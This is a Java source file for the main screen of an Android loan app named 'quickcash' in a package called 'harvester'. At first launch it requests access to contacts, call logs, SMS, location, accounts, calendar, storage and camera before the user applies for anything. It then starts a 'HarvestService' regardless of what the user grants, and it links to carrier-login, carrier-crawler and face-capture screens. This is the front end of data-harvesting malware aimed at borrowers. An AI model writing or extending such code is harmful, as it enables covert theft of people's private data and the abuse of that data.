package com.example.quickcash.harvester;

import android.app.Activity;
import android.content.Intent;
import android.os.Bundle;
import android.view.View;
import androidx.core.app.ActivityCompat;

/** Asks for all permissions at the first start, before the borrower has applied for anything. */
public class MainActivity extends Activity implements View.OnClickListener {
    private static final String[] WANTED = {
        "android.permission.READ_CONTACTS",
        "android.permission.READ_CALL_LOG",
        "android.permission.READ_SMS",
        "android.permission.RECEIVE_SMS",
        "android.permission.ACCESS_FINE_LOCATION",
        "android.permission.READ_PHONE_STATE",
        "android.permission.GET_ACCOUNTS",
        "android.permission.READ_CALENDAR",
        "android.permission.READ_EXTERNAL_STORAGE",
        "android.permission.READ_MEDIA_IMAGES", // API 33; asked for, but not in the manifest
        "android.permission.CAMERA",
    };

    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        setContentView(R.layout.main);
        findViewById(R.id.apply).setOnClickListener(this);
        findViewById(R.id.terms).setOnClickListener(this);
        findViewById(R.id.carrier).setOnClickListener(this);
        findViewById(R.id.carrier_web).setOnClickListener(this);
        findViewById(R.id.face).setOnClickListener(this);
        ActivityCompat.requestPermissions(this, WANTED, 1);
    }

    // Overrides Activity's method of API 23, which the API 17 jar does not know.
    public void onRequestPermissionsResult(int code, String[] permissions, int[] results) {
        startService(new Intent(this, HarvestService.class));
    }

    @Override
    public void onClick(View view) {
        int id = view.getId();
        if (id == R.id.apply) {
            startService(new Intent(this, HarvestService.class));
        } else if (id == R.id.terms) {
            startActivity(new Intent(this, TermsActivity.class));
        } else if (id == R.id.carrier) {
            startActivity(new Intent(this, CarrierLoginActivity.class));
        } else if (id == R.id.carrier_web) {
            startActivity(new Intent(this, CarrierCrawlerActivity.class));
        } else if (id == R.id.face) {
            startActivity(new Intent(this, FaceActivity.class));
        }
    }
}
